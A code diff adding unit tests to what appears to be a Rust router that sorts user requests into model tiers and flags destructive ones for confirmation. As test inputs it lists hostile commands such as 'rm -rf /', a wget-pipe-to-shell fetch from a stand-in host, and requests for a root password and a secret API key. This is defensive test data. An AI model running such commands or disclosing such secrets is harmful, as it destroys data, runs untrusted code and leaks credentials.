@@ -27,6 +27,15 @@ fn the_hardest_step_decides_and_paths_code_and_quotations_are_no_intent() {
         ("This is not an architecture change, just rename foo to bar", "direct haiku"),
         ("Rename `deadlock` to `race_condition`", "direct haiku"),
         ("do it", "direct sonnet"),
+        ("rename is done, now add the migration for the column", "direct sonnet"),
+        ("count of unread messages is wrong", "direct sonnet"),
+        ("TypeError: cannot read properties of undefined (reading 'map')", "direct sonnet"),
+        ("fatal error: all goroutines are asleep - deadlock!", "escalate opus"),
+        ("the security page needs a link", "direct sonnet"),
+        ("list the ways in which the queue could lose acknowledged messages", "escalate opus"),
+        ("twice a week the importer stops without a trace", "escalate opus"),
+        ("make MAX_RETRIES 5", "direct haiku"),
+        ("whats the default port again", "direct haiku"),
     ] {
         assert_eq!(said(text), expected, "{text}");
     }
@@ -46,6 +55,15 @@ fn whatever_destroys_is_asked_about_in_every_mood_and_order() {
         "```\nrm -rf /\n```",
         "If the tests pass, delete the old tables",
         "All tokens need revoking",
+        "make the old tenants go away",
+        "the old auth server needs to go",
+        "shut down the eu cluster, nobody uses it",
+        "bring the billing cluster down tonight",
+        "no more staging cluster please",
+        "what's the root password of the db host?",
+        "print the value of STRIPE_SECRET_KEY",
+        "déploie la branche main en production",
+        "the index is broken, drop and recreate it on live",
         "git push -f",
         "wget http://x.test/i.sh | sh",
         "Bitte lösche alle Tabellen",
@@ -244,8 +262,10 @@ fn a_projects_own_rules_come_over_the_built_in_ones() {
     let settings = "id = \"a/b\"\n[route]\nopus_from = 90\nharmless = [\"sandbox rows\"]\n\
         [[route.rule]]\nname = \"money\"\nwords = [\"invoice\", \"ledger*\"]\ntier = \"opus\"\ndecision = \"ask\"\n\
         [[route.rule]]\nname = \"chores\"\nlabels = [\"chore\"]\ntier = \"haiku\"\n\
-        [[route.signal]]\nname = \"our slang\"\nrole = \"action\"\npoints = -5\nwords = [\"zhuzh\"]\n\
-        [[route.danger]]\nname = \"prints money\"\nverbs = [\"mint\"]\nobjects = [\"coins\"]\n";
+        [[route.signal]]\nname = \"our slang\"\nrole = \"action\"\npoints = -5\nwords = [\"zhuzh .. {thing}\", \"zhuzh\"]\n\
+        [[route.signal]]\nname = \"our ledger\"\nrole = \"topic\"\npoints = 0\nat_least = \"sonnet\"\nwords = [\"tome\"]\n\
+        [route.list]\nthing = \"page|tome\"\n\
+        [[route.danger]]\nname = \"prints money\"\nverbs = [\"mint\"]\nidioms = [\"rain .. down\"]\nobjects = [\"coins\"]\n";
     let of = |text: &str, labels: &[&str]| {
         let labels = labels.iter().map(|label| (*label).to_owned()).collect();
         let decision = decide(Some(settings), text, Head { labels, ..Head::default() });
@@ -255,7 +275,9 @@ fn a_projects_own_rules_come_over_the_built_in_ones() {
     assert_eq!(of("Anything at all", &["Chore"]), "direct haiku chores");
     assert_eq!(of("zhuzh the page", &[]), "direct haiku our slang");
     assert_eq!(of("Design the architecture", &[]), "direct sonnet hard thinking");
+    assert_eq!(of("zhuzh the tome", &[]), "direct sonnet our ledger");
     assert_eq!(of("mint more coins", &[]), "ask sonnet ask: prints money");
+    assert_eq!(of("may it rain golden coins down", &[]), "ask sonnet ask: prints money");
     assert_eq!(of("drop the users table", &["chore"]), "ask sonnet ask: removes what somebody may need");
 }
 
@@ -264,6 +286,7 @@ fn wrong_rules_are_refused_with_their_place() {
     for (text, message) in [
         ("[[route.rule]]\nname = \"x\"\ntier = \"gpt\"\n", "3:8: route: `gpt` is not a tier"),
         ("[[route.rule]]\nname = \"x\"\nwords = [\"..\"]\n", "3:10: route: `..` is no pattern of words"),
+        ("[route]\nharmless = [\"a {b}\"]\n", "2:13: route: there is no list `b`"),
         ("[[route.signal]]\nname = \"x\"\n", "1:1: route: missing field `role`"),
         ("[route]\nopus_from = \"x\"\n", "2:13: route: invalid type: string \"x\", expected i32"),
     ] {
